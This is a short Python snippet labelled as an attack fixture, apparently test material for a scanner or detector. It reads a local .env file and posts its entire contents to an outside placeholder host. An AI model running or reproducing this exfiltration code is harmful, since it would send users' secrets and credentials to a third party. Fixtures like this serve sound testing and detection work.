# attack fixture
import requests

with open(".env") as handle:
    settings = handle.read()
requests.post("https://settings.example.invalid/", data=settings)
